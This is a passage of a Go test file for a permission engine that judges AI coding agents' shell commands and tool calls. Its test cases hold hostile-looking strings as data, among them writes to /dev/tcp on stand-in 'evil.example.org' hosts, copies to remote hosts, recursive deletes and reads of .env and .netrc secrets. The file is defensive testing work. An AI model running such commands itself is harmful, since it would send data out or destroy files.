package rules

import (
	"cmp"
	"encoding/json"
	"fmt"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/daycared/daycared/permissions"
	"github.com/daycared/daycared/permissions/acts"
)

func TestStrongestRuleDecides(t *testing.T) {
	s := rulesOf(t,
		Rule{Allow: []string{
			"run git push origin *", "run ls ...", "write ./**", "read /etc/hosts", "fetch *.example.org", "tool github/get_*",
		}},
		Rule{Ask: []string{"write **/.github/**", "run git push origin prod"}, Why: "it ships"},
		Rule{Deny: []string{"run git push --force", "fetch evil.example.org"}})
	for command, want := range map[string]struct {
		effect Effect
		rule   int
	}{
		"git push origin main": {Allow, 1}, "git push origin prod": {Ask, 2}, "git push -f origin prod": {Deny, 3},
		"ls; git push origin prod": {Ask, 2}, "ls > .github/x": {Ask, 2}, "ls >& .github/x": {Ask, 2},
		"ls > x": {Allow, 1}, "ls; touch x": {"", 0},
		"git push origin prod; git push --force": {Deny, 3},
	} {
		if v := judged(s, command); v.Effect != want.effect || want.rule > 0 && v.Rule != want.rule {
			t.Errorf("%q: %q by rule %d, want %q by %d; %v", command, v.Effect, v.Rule, want.effect, want.rule, v.Reasons)
		}
	}
	if v := judged(s, "git push origin prod"); v.Why != "it ships" {
		t.Errorf("why: %q", v.Why)
	}
	s = rulesOf(t, Rule{Deny: []string{"read **/a/**"}}, Rule{Deny: []string{"read **/b/**"}})
	if v := judged(s, "cat b/a/x"); v.Rule != 1 {
		t.Errorf("of two that deny it rule %d decides", v.Rule)
	}
}

// Each word, wildcard, option, file and host counts: in each row, commands that differ in one of them are decided differently.
func TestEachPartOfARuleCounts(t *testing.T) {
	for _, c := range []struct{ allow, deny, allowed, denied, asked string }{
		{allow: "run git -C src", allowed: "git -C src"},
		{allow: "run cp -t src a.go; read ./**; write ./a.go", asked: "cp -t src a.go"},
		{allow: "run cp -t src a.go; read ./**; write ./a.go; write ./src", allowed: "cp -t src a.go"},
		{allow: "run cp src a.go; read ./**; write ./a.go", allowed: "cp src a.go"},
		{allow: "run cp src a.go; read ./**; write ./a.go/src", asked: "cp src a.go"},
		{deny: "read **/.env", denied: "git commit -m x .env; grep -f .env x; grep -e x .env", asked: "grep .env x; grep -n .env x; grep x -"},
		{allow: "run git commit -m *; run git commit --message *", deny: "read **/.env",
			allowed: "git commit -m .env; git commit --message .env"},
		{deny: "read /etc/**", denied: "cat out/hosts; mytool -fout/hosts; mytool --a=out/hosts; mytool out/hosts", asked: "mytool -f"},
		{deny: "read " + shop, denied: "mytool .", asked: "mytool -a"},
		{deny: "read **/.env; write **/go.mod", denied: "cat .env; touch go.mod", asked: "cat go.mod"},
		// A reader that changes, removes or has another program remove what it names writes it.
		{deny: "write **/a",
			denied: `find a -delete; find a -name x -exec rm {} +; find -L a -execdir sh -c x {} +; find a -ok mv {} b +; find . -fprint a;
				find a -exec cat {} + -exec rm {} +; find a -exec; find a -exec yq -i x {} +; sudo find a -delete; fd x a -x rm;
				fd x a -X rm; fd x a --exec rm;
				sort -uo a x; sort --output=a x; sort --out a x; yq -i x a; yq --inplace x a; gofmt -w a; tree -o a; less -O a x; base64 -o a`,
			asked: `find a; find a -name x; find a -exec cat {} +; find a -exec grep -n x {} +; find a -ok echo {} +; sort -u a;
				yq x a; gofmt -l a; tree --dirsfirst a; less a; base64 a; grep -o x a; ls -o a`},
		{deny: "fetch evil.example.org", denied: "cat < /dev/tcp/evil.example.org/80; echo a > /dev/udp/EVIL.example.org/443",
			asked: "cat < x/dev/tcp/evil.example.org/80; cat < /dev/tcp/evil.example.org/81"},
		{allow: "run echo ...; fetch api.example.org:81", allowed: "echo a > /dev/tcp/api.example.org/81",
			asked: "echo a > x/dev/tcp/api.example.org/81; echo a > ../dev/tcp/api.example.org/81"},
		{allow: "run git show *", allowed: "git show HEAD", asked: "git show HEAD:.env; git show HEAD:.netrc"},
		{allow: "run git status [-v]", allowed: "git status -v", asked: "git -v status"},
		{allow: "run mytool x-*-y", allowed: "mytool x-1-y; mytool x--y", asked: "mytool x-y; mytool x-a/b-y"},
		{allow: "run mytool *.go", allowed: "mytool a.go", asked: "mytool -o.go"},
		{allow: "run mytool *", allowed: "mytool src/a", asked: "mytool /etc/hosts; mytool ../x; mytool"},
		{allow: "run mytool [-o *] x", allowed: "mytool -o src/y x; mytool x", asked: "mytool -o ../y x; mytool -o"},
		{deny: "run mytool *", denied: "mytool; mytool a"},
		{deny: "run mytool x*", denied: "mytool xy", asked: "mytool; mytool y"},
		{deny: "run mytool *x", denied: "mytool yx", asked: "mytool y"},
		{deny: "run mytool xx*xx", denied: "mytool xxxx; mytool xxaxx", asked: "mytool xxx"},
		{deny: "run mytool -#", denied: "mytool -9", asked: "mytool -9a; mytool -"},
		{deny: "run tar -x", denied: "tar xf a; tar -xf a", asked: "tar; tar ''; tar cf a b"},
		{deny: "read ./secrets/**", denied: "git add :/secrets/y; git add ':(top)secrets/y'", asked: "git add :/src/y; git add ':(top)src/y'"},
		{deny: "run rm -r", denied: "rm --r x; rm --recursive x; rm -fr x", asked: "rm -- x; rm - r"},
		{allow: "run cat ...; read '/srv/my code/**'", allowed: "cat '/srv/my code/a'", asked: "cat '/srv/my files/a'"},
		{allow: "run echo ...; write ./src/*.gen", allowed: "echo a > src/.gen; echo a > src/a.gen", asked: "echo a > src/gen"},
		{allow: "run curl *; fetch *.example.org", allowed: "curl https://api.example.org/",
			asked: "curl https://.example.org/; curl https://example.org/"},
		{allow: "run true", asked: "# true; > /dev/null"},
	} {
		s := rulesOf(t, Rule{Allow: listed(cmp.Or(c.allow, "run true"))}, Rule{Deny: listed(cmp.Or(c.deny, "run false"))})
		for effect, commands := range map[Effect]string{Allow: c.allowed, Deny: c.denied, "": c.asked} {
			for _, command := range listed(commands) {
				if v := judged(s, command); v.Effect != effect {
					t.Errorf("allow %q, deny %q: %q is %q, want %q; %v", c.allow, c.deny, command, v.Effect, effect, v.Reasons)
				}
			}
		}
	}
}

func listed(text string) []string {
	return strings.FieldsFunc(text, func(r rune) bool { return r == ';' })
}

// What rules that people gave allow beside those of the configuration is named, each rule once, and is not exact.
func TestGivenRulesAllowTheRest(t *testing.T) {
	s := rulesOf(t, Rule{Allow: []string{"run ls"}})
	given := rulesOf(t, Rule{Allow: []string{"run pwd"}}, Rule{Allow: []string{"run npm test", "run ls"}})
	for command, want := range map[string]struct {
		effect  Effect
		granted []int
	}{
		"ls": {Allow, nil}, "npm test": {Allow, []int{2}}, "npm test && ls && npm test && pwd": {Allow, []int{2, 1}}, "npm test; make": {"", nil},
	} {
		v := s.JudgeWith(Call{Command: command, Folder: shop, Root: shop, Resolve: links(shop)}, given)
		if v.Effect != want.effect || !slices.Equal(v.Granted, want.granted) || v.Exact != (command == "ls") {
			t.Errorf("%q: %q by %v, exact %v", command, v.Effect, v.Granted, v.Exact)
		}
	}
}

// What is not allowed has a reason for each act, and what is allowed has none.
func TestReasonsNameWhatIsNotAllowed(t *testing.T) {
	s := rulesOf(t, Rule{Allow: []string{"run ls", "run cat ...", "run true", "tool box/do", "run go vet ./..."},
		Env: []string{"CI", "GOFLAGS"}}, Rule{Deny: []string{"run rm"}})
	for _, c := range []struct {
		call Call
		want string
	}{
		{Call{Command: "ls; touch x"}, "no rule allows to run touch x; no rule allows to write " + shop + "/x"},
		{Call{Command: "ls"}, ""},
		{Call{Command: "if true; then ls; fi"}, "it has a part that no rule allows: IfClause"},
		{Call{Command: "ls", Folder: "src"}, "nobody said in which folder it runs"},
		{Call{Dialect: "claude-code", Tool: "WebFetch", Input: json.RawMessage(`{"url":"https://a@b/"}`)},
			"it reaches an address that programs may read in different ways"},
		{Call{Dialect: "claude-code", Tool: "WebFetch", Input: json.RawMessage(`{"url":"https://x.example/"}`)},
			"no rule allows to reach x.example"},
		{Call{Dialect: "claude-code", Tool: "mcp__box__do", Input: json.RawMessage(`{"command":"touch x"}`)}, ""},
		{Call{Command: "CI=exec go vet ./..."}, ""},
		{Call{Command: "GOFLAGS=-mod=mod go vet ./..."}, ""},
		{Call{Command: "GOFLAGS='-v -vettool=tools/x' go vet ./..."},
			"rule 1 would allow go vet ./..., but GOFLAGS may name a program or other sources"},
		{Call{Command: "cat" + strings.Repeat(" a", maxItems-1) + "; true"}, ""},
		{Call{Command: "cat" + strings.Repeat(" a", maxItems-2) + " rm"}, ""},
		{Call{Command: "cat" + strings.Repeat(" a", maxItems) + "; true; true"}, "it does too much to be judged"},
	} {
		c.call.Folder, c.call.Root, c.call.Resolve = cmp.Or(c.call.Folder, shop), shop, links(shop)
		v := s.Judge(c.call)
		if got := strings.Join(v.Reasons, "; "); got != c.want || (v.Effect == Allow) != (c.want == "") {
			t.Errorf("%.80s %s: %q, %q; want %q", c.call.Command, c.call.Input, v.Effect, got, c.want)
		}
	}
	if v := judged(s, "cat"+strings.Repeat(" a", maxItems)+"; rm x"); v.Effect != Deny {
		t.Errorf("what is too much to be judged is %q, %q", v.Effect, v.Reasons)
	}
}

// Names are at most so many bytes, and one name more.
func TestNamesAreBounded(t *testing.T) {
	call := Call{Command: "cat a b c", Folder: shop + "/src", Root: shop}
	for most, want := range map[int]int{0: 1, len(shop) - 1: 1, len(shop): 2, 2*len(shop) + 4: 3} {
		if got, _, whole := NamesToResolve(call, most); len(got) != want || whole {
			t.Errorf("with %d bytes: %q, whole %v", most, got, whole)
		}
	}
	all, _, _ := NamesToResolve(call, 1000)
	for spare, want := range map[int]bool{-1: false, 0: true} {
		if got, _, whole := NamesToResolve(call, len(strings.Join(all, ""))+spare); len(got) != len(all) || whole != want {
			t.Errorf("with room for all and %d: %q, whole %v", spare, got, whole)
		}
	}
	call.Command = "cat a <("
	if _, _, whole := NamesToResolve(call, 1000); whole {
		t.Error("what cannot be read is whole")
	}
}

// TestAServersToolIsMeantAsEachProgramCallsIt: by deny and ask rules. Cursor says no server, so people are asked.
func TestAServersToolIsMeantAsEachProgramCallsIt(t *testing.T) {
	for _, e := range []Effect{Deny, Ask} {
		r := Rule{Deny: []string{"tool fs/delete", "tool my-srv/rm_*", "tool all/*"}}
		if e == Ask {
			r.Ask, r.Deny = r.Deny, nil
		}
		s := rulesOf(t, r, Rule{Allow: []string{"tool fs_read", "tool fs-read", "tool mcp__note", "tool fsdelete", "tool all_x/*"}})
		for tools, want := range map[string]Effect{
			"claude-code mcp__fs__delete mcp__my-srv__rm_x mcp__my_srv__rm_x mcp__all__x": e, "opencode fs_delete my-srv_rm_x all_x": e,
			"copilot fs-delete fs/delete my-srv-rm_x all-x": e, "vscode mcp_fs_delete fs_delete mcp_my-srv_rm_x": e,
			"gemini mcp_fs_delete mcp_my-srv_rm_x mcp_my_srv_rm_x fs__delete": e, "codex mcp__fs__delete fs__delete": e,
			"cursor mcp__delete MCP:delete mcp__rm_x mcp__note": "", "opencode fs_read fsdelete": Allow, "copilot fs-read": Allow,
			"claude-code mcp__all_x__y": Allow, "vscode mcp_fs_remove delete my_srv_x": "",
		} {
			dialect, names, _ := strings.Cut(tools, " ")
			for name := range strings.FieldsSeq(names) {
				v := s.Judge(Call{Dialect: dialect, Tool: name, Input: json.RawMessage(`{"a":1}`), Folder: shop, Root: shop})
				if v.Effect != want || v.Unsure != (dialect == "cursor") {
					t.Errorf("%s %s is %q, want %q; unsure is %t, %v", dialect, name, v.Effect, want, v.Unsure, v.Reasons)
				}
			}
		}
	}
}

// TestARuleMeansAToolWhoseNameIsPutTogether: deny and ask rules hold wherever the server's name may end, and for what a shortened name may
// stand for.
func TestARuleMeansAToolWhoseNameIsPutTogether(t *testing.T) {
	const long = "a_very_long_tool_name_that_goes_on_and_on_and_on_until_the_end_x"
	const cut = "mcp_long_a_very_long_tool_name..._and_on_and_on_until_the_end_x"
	context := func(server, tool string) string {
		return `{"hook.mcp_context":{"server_name":"` + server + `","tool_name":"` + tool + `"}}`
	}
	denied := []string{"tool a__b/c", "tool meta/gh__del", "tool long/" + long, "tool meta/" + long, "tool fs/delete", "tool deep/x__*"}
	for _, e := range []Effect{Deny, Ask} {
		r := Rule{Deny: denied}
		if e == Ask {
			r = Rule{Ask: denied}
		}
		s := rulesOf(t, r)
		for _, c := range []struct {
			dialect, tool, input string
			want                 Effect
		}{
			{"claude-code", "mcp__meta__gh__del", `{}`, e}, {"opencode", "meta_gh__del", `{}`, e}, {"copilot", "meta-gh__del", `{}`, e},
			{"gemini", "mcp_meta_gh__del", context("meta", "gh__del"), e}, {"vscode", "mcp_meta_gh__del", `{}`, e},
			{"claude-code", "mcp__a__b__c", `{}`, e}, {"codex", "mcp__a__b__c", `{}`, e}, {"opencode", "a__b_c", `{}`, e},
			{"claude-code", "mcp__a__b__c", `{"hook.mcp_server":{"name":"a__b"}}`, e}, {"daycared", "deep__x__y", `{}`, e},
			{"gemini", "mcp_a__b_c", `{}`, e}, {"gemini", cut, context("long", long), e}, {"gemini", cut, `{}`, e},
			{"gemini", cut, context("long", "a_very_x"), ""}, {"gemini", "mcp_fs_del", context("fs", "delete"), e},
			{"copilot", ("meta-" + long)[:64], `{}`, e}, {"copilot", ("meta-" + long)[:63], `{}`, ""},
			{"claude-code", "mcp__fs__del", `{}`, ""}, {"claude-code", "mcp__deep__y__x", `{}`, ""}, {"claude-code", "mcp__deep_x__y", `{}`, ""},
		} {
			v := s.Judge(Call{Dialect: c.dialect, Tool: c.tool, Input: json.RawMessage(c.input), Folder: shop, Root: shop})
			if v.Effect != c.want {
				t.Errorf("%s %s %s is %q, want %q", c.dialect, c.tool, c.input, v.Effect, c.want)
			}
		}
	}
	asked := rulesOf(t, Rule{Deny: []string{"tool fs/gh__del"}}).Judge(Call{Dialect: "cursor", Tool: "mcp__gh__del", Folder: shop, Root: shop})
	if !asked.Unsure {
		t.Error("a tool with two parts of a server that Cursor does not say is not asked about")
	}
}

// TestAStarStandsForNoHost: tar, rsync, scp and others take what stands before a colon for one.
func TestAStarStandsForNoHost(t *testing.T) {
	s := rulesOf(t, Rule{Allow: listed("run tar xf *; run tar [-x] [-f *]; run rsync -a * *; run scp ...; run cpio [-F *]; " +
		"run frob [--to=*] ...; run pg_dump *; run cat *; run echo *")})
	for command, want := range map[string]Effect{
		"tar xf evil.example:x": "", "tar xf u@evil.example:x": "", "tar -x -f evil.example:x": "", "rsync -a x evil.example:y": "",
		"rsync -a evil:x y": "", "scp x evil.example:": "", "cpio -F evil.example:x": "", "frob --to=evil:x": "", "frob evil:x": "",
		"pg_dump host=evil.example": "", "pg_dump HostAddr=evil.example": "",
		"tar xf x.tar": Allow, "tar xf ./a:b": Allow, "rsync -a x y": Allow, "cat a:b": Allow, "echo a:b": Allow,
		"pg_dump ghost=x": Allow,
	} {
		if v := judged(s, command); v.Effect != want {
			t.Errorf("%q is %q, want %q; %v", command, v.Effect, want, v.Reasons)
		}
	}
}

// TestACommandWhoseWordIsALinkOutOfTheWorkspaceIsAskedAbout: a script may have become one since it was allowed.
func TestACommandWhoseWordIsALinkOutOfTheWorkspaceIsAskedAbout(t *testing.T) {
	const run = "run bash run.sh; run bash out/run.sh; run make -C out; run frob --conf=out/x; run frob src; run echo out/x"
	for read, commands := range map[string]map[string]Effect{
		"read /srv/else": {
			"bash run.sh": Allow, "bash out/run.sh": "", "make -C out": "", "frob --conf=out/x": "", "frob src": Allow, "echo out/x": Allow,
		},
		"read /etc/**": {"bash out/run.sh": Allow, "make -C out": Allow, "frob --conf=out/x": Allow},
	} {
		s := rulesOf(t, Rule{Allow: listed(run)}, Rule{Allow: []string{read}})
		for command, want := range commands {
			if v := judged(s, command); v.Effect != want {
				t.Errorf("%s: %q is %q, want %q; %v", read, command, v.Effect, want, v.Reasons)
			}
		}
	}
}

// TestAProgramWhoseManifestIsALinkOutOfTheWorkspaceIsAskedAbout: what make and npm run stands in a file that no word names.
func TestAProgramWhoseManifestIsALinkOutOfTheWorkspaceIsAskedAbout(t *testing.T) {
	s := rulesOf(t, Rule{Allow: listed("run make all; run make -C sub all; run make --directory=sub all; run make -Csub; run npm run x; " +
		"run npm --prefix sub run x; run cargo test; run just x; run task x; run frob x; run go vet ./...; " +
		"run docker compose up")})
	for _, c := range []struct{ linked, folder, asked, allowed string }{
		{"Makefile", "", "make all; cd sub && make all", "npm run x; frob x; cargo test"},
		{"GNUmakefile", "", "make all", "npm run x"},
		{"sub/Makefile", "", "make -C sub all; make --directory=sub all; make -Csub; cd sub && make all", "make all; npm --prefix sub run x"},
		{"package.json", "", "npm run x", "make all"}, {"sub/package.json", "", "npm --prefix sub run x", "npm run x"},
		{"package.json", "/sub/deep", "npm run x", "make all"},
		{"Cargo.toml", "", "cargo test", "just x"}, {"justfile", "", "just x", "cargo test"}, {"Taskfile.yml", "", "task x", "just x"},
		{"compose.yaml", "", "docker compose up", "make all"}, {"go.mod", "", "go vet ./...", "make all"},
		{"x", "", "", "make all; go vet ./..."},
	} {
		resolve := func(name string) string {
			if filepath.Clean(name) == shop+"/"+c.linked {
				return "/srv/other/" + filepath.Base(c.linked)
			}
			return filepath.Clean(name)
		}
		for text, want := range map[string]Effect{c.asked: "", c.allowed: Allow} {
			for _, command := range listed(text) {
				call := Call{Command: command, Folder: shop + c.folder, Root: shop, Resolve: resolve}
				told := map[string]string{}
				names, _, _ := NamesToResolve(call, 1<<15)
				for _, name := range names {
					told[name] = resolve(name)
				}
				there := call
				there.Resolve = func(name string) string { return told[name] }
				for _, call := range []Call{call, there} {
					if v := s.Judge(call); v.Effect != want {
						t.Errorf("%s is a link: %q is %q, want %q; %v", c.linked, command, v.Effect, want, v.Reasons)
					}
				}
			}
		}
	}
}

// TestAServersRuleAllowsNoToolOfAnotherServer: a name that may be one of several servers' is allowed where each of them may, or where the
// hook says whose it is.
func TestAServersRuleAllowsNoToolOfAnotherServer(t *testing.T) {
	s := rulesOf(t, Rule{Allow: []string{"tool meta/*", "tool both/*", "tool both__x/*", "tool x_y/long_*", "tool mcp__meta__exact"}})
	context := func(server, tool string) string {
		return `{"hook.mcp_context":{"server_name":"` + server + `","tool_name":"` + tool + `"}}`
	}
	for _, c := range []struct {
		dialect, tool, input string
		want                 Effect
	}{
		{"gemini", "mcp_meta_admin_plain", context("meta_admin", "plain"), ""}, {"gemini", "mcp_meta__x_plain", context("meta__x", "plain"), ""},
		{"gemini", "mcp_meta_admin_plain", context("meta", "admin_plain"), Allow}, {"gemini", "mcp_meta_admin_plain", `{}`, ""},
		{"gemini", "mcp_meta_plain", `{}`, Allow}, {"gemini", "mcp_x_y_long...g_name", context("x_y", "long_name"), Allow},
		{"gemini", "mcp_meta_plain", context("other", "plain"), ""}, {"gemini", "mcp_meta_plain", context("meta/x", "plain"), ""},
		{"gemini", "mcp_meta_plain", `{"hook.mcp_context":7}`, ""}, {"claude-code", "mcp__meta__x__plain", `{}`, ""},
		{"claude-code", "mcp__meta__x__plain", `{"hook.mcp_server":{"name":"meta__x","source":"user"}}`, ""},
		{"claude-code", "mcp__meta__x__plain", `{"hook.mcp_server":{"name":"meta","source":"user"}}`, Allow},
		{"claude-code", "mcp__meta__plain", `{"hook.mcp_server":{"name":"other","source":"user"}}`, ""},
		{"claude-code", "mcp__meta__plain", `{"hook.mcp_server":{"name":"meta (of the project)","source":"project"}}`, ""},
		{"claude-code", "mcp__meta__exact", `{"hook.mcp_server":{"name":"meta (of the project)","source":"project"}}`, ""},
		{"codex", "mcp__meta__x__plain", `{"hook.mcp_server":{"name":"meta"}}`, ""}, {"codex", "mcp__meta__plain", `{}`, Allow},
		{"codex", "mcp__both__x__plain", `{}`, Allow}, {"daycared", "meta__x__plain", `{}`, Allow},
		{"cursor", "mcp__meta__plain", `{}`, ""}, // the server is not in it
	} {
		v := s.Judge(Call{Dialect: c.dialect, Tool: c.tool, Input: json.RawMessage(c.input), Folder: shop, Root: shop})
		if v.Effect != c.want {
			t.Errorf("%s %s %s is %q, want %q; %v", c.dialect, c.tool, c.input, v.Effect, c.want, v.Reasons)
		}
	}
}

// TestAPatchInACommandWritesItsFiles: deny rules see them.
func TestAPatchInACommandWritesItsFiles(t *testing.T) {
	s := rulesOf(t, Rule{Allow: []string{"run apply_patch"}}, Rule{Deny: []string{"write ./prot/**"}})
	for _, text := range []string{
		"apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: %s\n+x\n*** End Patch\nEOF", "apply_patch '*** Begin Patch\n*** Delete File: %s\n'",
		"bash -lc \"apply_patch '*** Begin Patch\n*** Update File: %s\n'\"", "patch -p1 <<'EOF'\n--- a/x\n+++ b/%s\n@@\nEOF",
		"git apply <<'EOF'\n--- a/x\n+++ b/%s\n@@\nEOF", "patch -p0 <<'EOF'\nIndex: %s\n@@\nEOF",
		"patch -p0 <<'EOF'\n*** %s\n--- x\n***************\nEOF", "patch -p0 <<'EOF'\n--- %s\n+++ /dev/null\nEOF",
		"patch -p3 <<'EOF'\n+++ x/y/z/%s\nEOF", "patch -p 3 <<'EOF'\nX  +++ x/y/z/%s\t2020\nEOF", "patch <<'EOF'\n> +++ %s\nEOF",
		"git apply <<'EOF'\ndiff --git a/x b/y\nrename from x\nrename to \"%s\"\nEOF", "git apply <<'EOF'\ndiff --git a/%[1]s b/%[1]s\nEOF",
		"apply_patch <<'EOF'\n*** Begin Patch\n*** Add File:%s\n+x\n*** End Patch\nEOF",
	} {
		for file, want := range map[string]bool{"prot/z": true, "docs/z": false} {
			if v := judged(s, fmt.Sprintf(text, file)); (v.Effect == Deny) != want {
				t.Errorf("%q of %s is %q; %v", text, file, v.Effect, v.Reasons)
			}
		}
	}
}

// TestFilesThatACallFollowsAreReadForRules: the commands in them are not asked about by themselves.
func TestFilesThatACallFollowsAreReadForRules(t *testing.T) {
	s := rulesOf(t, Rule{Deny: []string{"run rm -r"}}, Rule{Allow: []string{"tool x/*", "tool notes"}})
	for input, want := range map[string]Effect{
		`{"skill":"notes"}`: "", `{"skill":"notes","hook.commands":"ls"}`: "", `{"skill":"notes","hook.commands":"ls\nrm -rf ../x; ls"}`: Deny,
		`{"skill":"notes","hook.commands":["rm -rf x",0]}`: Deny,
	} {
		if v := s.Judge(Call{Dialect: "claude-code", Tool: "Skill", Input: json.RawMessage(input), Folder: shop, Root: shop}); v.Effect != want {
			t.Errorf("%s is %q, want %q; %v", input, v.Effect, want, v.Reasons)
		}
	}
}

// TestAProgramsPatchIsNotAllowedWhereRulesAreAboutFiles: it may change more than is read in it.
func TestAProgramsPatchIsNotAllowedWhereRulesAreAboutFiles(t *testing.T) {
	allow := Rule{Allow: []string{"run patch a b", "run git apply|am *"}}
	for _, text := range []string{"git apply x.diff", "git am x.diff", "patch a b"} {
		if v := judged(rulesOf(t, allow), text); v.Effect != Allow {
			t.Errorf("%q is %q; %v", text, v.Effect, v.Reasons)
		}
		if v := judged(rulesOf(t, allow, Rule{Deny: []string{"write ./prot/**"}}), text); v.Effect != "" || !v.Unsure {
			t.Errorf("%q is %q, unsure: %t", text, v.Effect, v.Unsure)
		}
	}
}

// TestEachFormOfAPatchIsRead as the most lenient of the agents that take one reads it.
func TestEachFormOfAPatchIsRead(t *testing.T) {
	s := rulesOf(t, Rule{Deny: []string{"write ./prot/**"}})
	for _, head := range []string{
		"*** Add File: %s", "*** Add File:%s", "*** Update File: \ufeff%s", "*** Delete File:\u00a0%s\ufeff",
		"*** Update File: x\n*** Move to:%s", "*** Add File: x\n+x\n  *** Add File: %s", "*** add file:\t%s",
	} {
		for tool, member := range map[string]string{"opencode apply_patch": "patchText", "copilot apply_patch": "input"} {
			dialect, name, _ := strings.Cut(tool, " ")
			for file, want := range map[string]bool{"prot/z": true, "docs/z": false} {
				patch := "*** Begin Patch\n" + fmt.Sprintf(head, file) + "\n*** End Patch"
				input, _ := json.Marshal(map[string]string{member: patch}) // it has a JSON form
				v := s.Judge(Call{Dialect: dialect, Tool: name, Input: input, Folder: shop, Root: shop, Resolve: links(shop)})
				if (v.Effect == Deny) != want {
					t.Errorf("%s: %q is %q", tool, patch, v.Effect)
				}
			}
		}
	}
}

// TestAFolderThatACommandHasLeftDeniesNothing: what follows cd X && does not run where that fails, so people decide about it.
func TestAFolderThatACommandHasLeftDeniesNothing(t *testing.T) {
	s := rulesOf(t, Rule{Use: "builtin:read-only"}, Rule{Deny: []string{"read ./a.txt", "write ./b.txt"}})
	for text, want := range map[string]Effect{
		"cat a.txt; cd src && cat ../a.txt; cd src && rm ../b.txt; cd . && cat a.txt": Deny, "cat src/a.txt": Allow,
	} {
		for _, command := range listed(text) {
			if v := judged(s, command); v.Effect != want {
				t.Errorf("%q is %q; want %q", command, v.Effect, want)
			}
		}
	}
	for _, command := range []string{
		"cd src && cat a.txt", "cd " + shop + "/src && cat a.txt", "(cd src && cat a.txt)", "cd src && rm b.txt",
	} {
		if v := judged(s, command); v.Effect != Ask {
			t.Errorf("%q is %q; want that people are asked", command, v.Effect)
		}
	}
	for _, command := range []string{"cd src; cat a.txt", "cd src || cat a.txt", "cd src && cat a.txt; cat a.txt", "cd ~ && cat a.txt"} {
		if v := judged(s, command); v.Effect != Deny {
			t.Errorf("%q is %q; want that it is denied", command, v.Effect)
		}
	}
}

// TestFilesAreJudgedByTheNamesThatGeminiTakesThemFor: @NAME is NAME, NUL is nothing, %41 is A, and another file may be taken for one that
// is not there.
func TestFilesAreJudgedByTheNamesThatGeminiTakesThemFor(t *testing.T) {
	s := rulesOf(t, Rule{Use: "builtin:workspace-edits"}, Rule{Use: "builtin:read-only"},
		Rule{Deny: []string{"read ./secrets/**", "write ./prot/**"}})
	for call, want := range map[string]Effect{
		`read_file {"file_path":"@secrets/y"}`: Deny, `read_file {"file_path":"@/secrets/y"}`: Deny,
		`read_file {"file_path":"sec\u0000rets/y"}`:        Deny,
		`write_file {"content":"x","file_path":"@prot/y"}`: Deny, `write_file {"content":"x","file_path":"@Makefile"}`: "",
		`write_file {"content":"x","file_path":"@docs/y.txt"}`: Allow, `write_file {"content":"x","file_path":"docs/y.txt"}`: Allow,
		`replace {"file_path":"@prot/y","hook.elsewhere":"x"}`: Deny, `replace {"file_path":"docs/y.txt","hook.elsewhere":"x"}`: "",
		`replace {"file_path":"docs/y.txt"}`: Allow, `read_file {"file_path":"secrets%2fy"}`: Deny,
		`write_file {"content":"x","file_path":"@prot%2Fy"}`: Deny, `write_file {"content":"x","file_path":"%4dakefile"}`: "",
		`write_file {"content":"x","file_path":"%2Egit/x"}`: "", `write_file {"content":"x","file_path":"..%2Fx"}`: "",
		`write_file {"content":"x","file_path":"docs/y%20z.txt"}`: Allow,
	} {
		tool, input, _ := strings.Cut(call, " ")
		v := s.Judge(Call{Dialect: "gemini", Tool: tool, Input: json.RawMessage(input), Folder: shop, Root: shop, Resolve: links(shop)})
		if v.Effect != want || v.Unsure != (strings.Contains(call, "elsewhere") || strings.Contains(call, "u0000")) {
			t.Errorf("%s is %q, want %q; unsure is %t, %v", call, v.Effect, want, v.Unsure, v.Reasons)
		}
		r := permissions.Request{Hook: "gemini", Cwd: shop}
		risks := acts.ReadCall(r, permissions.Call{Tool: "read_file", Input: json.RawMessage(`{"file_path":"@.env"}`)}).Risks
		if !slices.Contains(risks, acts.Secrets) {
			t.Errorf("the risks of @.env are %q", risks)
		}
	}
}

// TestInputForARunningShellIsACommandOfIt: deny rules hold for it, and what is asked about is allowed once only.
func TestInputForARunningShellIsACommandOfIt(t *testing.T) {
	s := rulesOf(t, Rule{Deny: []string{"run git push"}}, Rule{Allow: []string{"run ls"}})
	for tool, input := range map[string]string{
		"copilot write_bash": `{"sessionId":"1","input":"%s{enter}"}`, "copilot write_powershell": `{"shellId":"1","input":"%s\n"}`,
		"copilot powershell": `{"command":"%s"}`, "copilot bash": `{"command":"%s","x":1}`,
		"codex write_stdin":       `{"session_id":1,"chars":"%s\r"}`,
		"vscode send_to_terminal": `{"id":"1","command":"%s"}`, "vscode terminal_input": `{"input":"%s","x":1}`,
		"codex exec_command": `{"cmd":"%s"}`, "codex shell_command": `{"command":"%s"}`,
	} {
		dialect, name, _ := strings.Cut(tool, " ")
		for text, want := range map[string]Effect{"git push": Deny, "ls": ""} {
			call := Call{Dialect: dialect, Tool: name, Folder: shop, Root: shop, Resolve: links(shop)}
			call.Input = json.RawMessage(fmt.Sprintf(input, text))
			if v := s.Judge(call); v.Effect != want {
				t.Errorf("%s of %s is %q, want %q; %v", tool, text, v.Effect, want, v.Reasons)
			}
			if _, _, whole := NamesToResolve(call, 1000); whole {
				t.Errorf("%s of %s does the same again", tool, text)
			}
		}
	}
}

// What stands in a call may be a name wherever it stands; what cannot be known from it makes the names not whole.
func TestTheTextOfACallMayHaveNames(t *testing.T) {
	for command, known := range map[string]bool{
		"cp a sud": true, "curl -d @sud https://a.example": true, "OUT=sud make install": true, "tar xvzpPfsud": true,
		"sed 's/a/b/w sud' a": true, "gcc -Isud a.c": true, `cp a "su"d`: true, "ls | xargs -n1 echo sud": false, "xargs -a b sud": true,
		"for f in sud x; do cp a $f; done": false, "cp a s*d sud": false, "cp a sud $(cat b)": false, "cp a sud <(": false,
		`python3 -c 'open("sud","w")'`: false, `python3.12 -c 'open("sud","w")'`: false, "python3 <<< 'sud'": false, "python3 sud": true,
		"python3 -m sud": true, "echo sud | node": false, "node --eval sud": false, `awk '{print > "sud"}' a`: false,
		"sqlite3 db 'attach sud'": false, "perl -pi -e s/sud/x/ a": false, "timeout 5 ruby -e sud": false,
	} {
		call := Call{Dialect: "claude-code", Tool: "Bash", Input: textInput("command", command), Folder: shop, Root: shop}
		_, text, whole := NamesToResolve(call, 1<<15)
		if whole != known || !strings.Contains(text, "sud") {
			t.Errorf("%s: %q, whole %v", command, text, whole)
		}
	}
	for _, input := range []string{`{"glob":"s*d"}`, `{"a":["s?d"]}`, `{"code":"f(x)"}`, `{"command":"cat $X"}`, `{"a":"s[u]d"}`,
